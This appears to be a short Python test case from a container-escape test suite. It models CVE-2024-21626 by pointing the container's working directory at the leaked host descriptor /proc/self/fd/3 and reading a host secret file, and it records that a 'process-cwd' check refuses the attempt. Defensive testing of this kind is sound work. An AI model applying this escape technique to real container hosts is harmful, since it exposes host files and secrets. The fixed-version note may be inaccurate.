"""The image's working directory is a symbolic link to a descriptor of the host's that the runtime has open."""

import os

from bypass import refused

SOURCE = "CVE-2024-21626: the form that a Dockerfile's WORKDIR gives it"
WAY = "image content"
STOPPED = refused("process-cwd")
BARE = {"runc": "corrected in Debian's 1.1.5"}


def attack(t):
    t.leak("/mnt")
    os.symlink("/proc/self/fd/3", t.rootfs + "/work")
    t.spec["process"]["cwd"] = "/work"
    return t.leaked(t.run("cat ./host/secret"))
